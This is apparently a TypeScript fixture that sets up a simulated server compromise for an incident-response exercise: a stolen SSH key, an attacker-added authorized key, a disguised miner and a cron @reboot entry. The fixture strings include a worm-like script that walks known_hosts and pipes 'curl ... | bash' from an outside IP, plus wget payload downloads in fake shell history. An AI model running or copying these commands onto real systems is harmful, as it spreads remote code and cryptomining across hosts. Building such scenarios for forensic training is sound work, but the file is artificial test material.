/** A stolen SSH key: somebody logs in as `deploy`, leaves a key and a miner, and a script that walks known_hosts. */
import { booted, clockFiles, type Incident, processFiles } from './incident.ts';
import { dated, end, minerProgram, ordinaryLogins, server } from './server.ts';
import { wallet } from './wallet.ts';

const day = 86_400_000;
const came = Date.UTC(2026, 10, 20, 2, 40, 0);
const theirKey =
  'ssh-rsa AAAAB3NzaC1yc2EAAAADAQABAAABAQC7n0tAr3alKey0fAnyb0dy0000000000000000000000000000000000 root@kali';
const deployKey = 'ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIFd0tLr2yQm6tQm0mJ0aBA8gOXW0GJq2bqUuGz8gHqFq ci@build';
const walk = [
  '#!/bin/bash',
  '# walks on',
  "HOSTS=$(awk '{print $1}' ~/.ssh/known_hosts | cut -d, -f1)",
  'for h in $HOSTS; do',
  '  ssh -oBatchMode=yes -oStrictHostKeyChecking=no $h "curl -s http://198.51.100.9/i.sh | bash" &',
  'done',
  `nohup ~/.config/.dbus/kthreadd -o pool.example.net:443 -u ${wallet} -p key --tls -B >/dev/null 2>&1`,
  '',
].join('\n');
const history = [
  'cd ~/.config && mkdir .dbus && cd .dbus',
  'wget -q http://198.51.100.9/k.tgz && tar xf k.tgz',
  'bash walk.sh',
  'crontab -l',
  '',
].join('\n');

function logins(): string {
  const line = (at: number, what: string): string =>
    `${new Date(at).toISOString().replace('Z', '+00:00')} app2 sshd[9021]: ${what}\n`;
  const theirs = line(came, 'Accepted publickey for deploy from 198.51.100.9 port 40112 ssh2: ED25519 SHA256:ci');
  const before = ordinaryLogins('app2')
    .split('\n')
    .filter((text) => text !== '');
  const at = before.findIndex((text) => Date.parse(text.slice(0, 24)) > came);
  before.splice(at, 0, theirs.trim());
  return `${before.join('\n')}\n`;
}

export const stolenKey: Incident = {
  name: 'a stolen SSH key that walks known_hosts',
  files: server('app2', {
    ...clockFiles,
    '/var/log/auth.log': dated(end, logins()),
    '/home/deploy/.ssh/authorized_keys': dated(came + 240_000, `${deployKey}\n${theirKey}\n`, {
      mode: 0o600,
      uid: 1001,
    }),
    '/home/deploy/.ssh/known_hosts': dated(
      end - 50 * day,
      'db1.example ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIA==\ndb2.example ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIB==\n',
      { uid: 1001 },
    ),
    '/home/deploy/.ssh/id_ed25519': dated(
      end - 50 * day,
      '-----BEGIN OPENSSH PRIVATE KEY-----\nnot a key\n-----END OPENSSH PRIVATE KEY-----\n',
      { mode: 0o600, uid: 1001 },
    ),
    '/home/deploy/.bash_history': dated(came + 300_000, history, { uid: 1001 }),
    '/home/deploy/.config/.dbus/kthreadd': dated(came + 60_000, minerProgram, { mode: 0o755, uid: 1001 }),
    '/home/deploy/.config/.dbus/walk.sh': dated(came + 61_000, walk, { mode: 0o755, uid: 1001 }),
    '/var/spool/cron/crontabs/deploy': dated(
      came + 120_000,
      '@reboot /home/deploy/.config/.dbus/walk.sh\n0 4 * * 1 /opt/app/rotate-keys\n',
      { mode: 0o600, uid: 1001 },
    ),
    '/opt/app/rotate-keys': dated(end - 50 * day, '#!/bin/sh\nexec /opt/app/server --rotate\n', { mode: 0o755 }),
    ...processFiles(3307, {
      name: 'kthreadd',
      program: '/home/deploy/.config/.dbus/kthreadd',
      argv: [
        '/home/deploy/.config/.dbus/kthreadd',
        '-o',
        'pool.example.net:443',
        '-u',
        wallet,
        '-p',
        'key',
        '--tls',
        '-B',
      ],
      uid: 1001,
      parent: 1,
      started: (came + 90_000 - booted) / 1000,
      folder: '/home/deploy/.config/.dbus',
    }),
  }),
  placed: [
    '/home/deploy/.config/.dbus/kthreadd',
    '/home/deploy/.config/.dbus/walk.sh',
    '/var/spool/cron/crontabs/deploy',
  ],
  secrets: ['/home/deploy/.ssh/id_ed25519', '/home/deploy/.ssh/known_hosts'],
  entry: /ssh|login|198\.51\.100\.9/i,
  forgotten: '/var/spool/cron/crontabs/deploy',
};
